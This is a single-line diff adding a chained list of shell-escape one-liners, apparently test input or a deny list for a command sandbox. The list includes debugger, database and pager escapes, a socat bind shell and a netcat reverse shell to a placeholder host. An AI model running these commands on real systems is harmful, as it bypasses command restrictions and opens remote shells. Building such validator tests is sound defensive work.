@@ -1,0 +1,1 @@
+gdb -batch -ex 'shell id' --args ./p; cmake -DX=1 -P s; go env -w A=b; gcc @f -B/x -fuse-ld=/l; sqlite3 -safe db '.shell id'; psql -c '\! id'; mysql -e 'system id'; socat TCP-L:1,fork EXEC:id; nc -e sh h 1; tcpdump -z x; script -qc id /dev/null; emacs --eval x
